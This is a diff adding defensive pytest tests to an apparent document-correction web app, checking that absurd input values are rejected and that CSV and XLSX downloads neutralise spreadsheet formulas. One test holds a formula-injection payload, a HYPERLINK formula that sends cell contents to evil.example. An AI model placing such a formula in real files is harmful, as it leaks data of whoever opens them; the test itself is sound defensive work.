@@ -739,3 +739,41 @@ def test_a_document_can_be_deleted_with_its_figures_and_it_is_logged(small_books
     assert [(r["field"], r["old"], r["new"], r["why"]) for r in log] == [
         ("document", second.name, None, "不是本地区的"), ("document", first.name, None, "重复的文件")]
     assert len(store.documents(small_books)) == len(EXAMPLES) - 2
+
+
+# ---- absurd values and formula cells -------------------------------------------------------------------
+
+def test_absurd_corrections_are_400_through_the_form_and_the_api(small_books: str) -> None:
+    client = TestClient(create_app(small_books, token=TOKEN))
+    figure = store.figures(small_books, kind="target")[0]
+    bearer = {"Authorization": f"Bearer {TOKEN}"}
+    for changes in ({"value": "1e999999"}, {"value": "NaN"}, {"unit": "=1+1"}, {"op": "about"},
+                    {"year": "20240"}, {"region": "测试/县"}):
+        response = client.post(f"/api/figure/{figure.id}/corrections", headers=bearer,
+                               json={"changes": changes, "why": "试一试"})
+        assert response.status_code == 400, changes
+    login(client)
+    csrf = _csrf(client.get(f"/doc/{figure.doc_id}").text)
+    response = client.post("/correct", data={"csrf_token": csrf, "figure_id": figure.id, "field": "value",
+                                             "value": "1e999999", "why": "试一试"})
+    assert response.status_code == 400 and "more than 15 digits before the point" in response.text
+    assert not store_corrections(small_books)
+    assert client.get("/api/scorecard").status_code == 200
+
+
+def test_downloads_never_start_a_formula(small_books: str) -> None:
+    client = TestClient(create_app(small_books, token=TOKEN))
+    figure = store.figures(small_books, kind="target", indicator="gdp")[0]
+    reason = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
+    response = client.post(f"/api/figure/{figure.id}/corrections", headers={"Authorization": f"Bearer {TOKEN}"},
+                           json={"changes": {"label": "@SUM(1,2)", "value": "-2.5"}, "why": reason})
+    assert response.status_code == 201
+    log = list(csv.DictReader(io.StringIO(client.get("/api/corrections?format=csv").text)))
+    assert {row["why"] for row in log} == {"'" + reason}
+    figures = list(csv.DictReader(io.StringIO(client.get(f"/api/figures?doc_id={figure.doc_id}&format=csv").text)))
+    fixed = next(row for row in figures if row["id"] == str(figure.id))
+    assert (fixed["label"], fixed["value"]) == ("'@SUM(1,2)", "-2.5")  # text neutralised, the number kept
+    sheet = load_workbook(io.BytesIO(client.get("/api/corrections?format=xlsx").content)).active
+    header = [c.value for c in sheet[1]]
+    cells = [row[header.index("why")] for row in sheet.iter_rows(min_row=2)]
+    assert {c.value for c in cells} == {reason} and {c.data_type for c in cells} == {"s"}
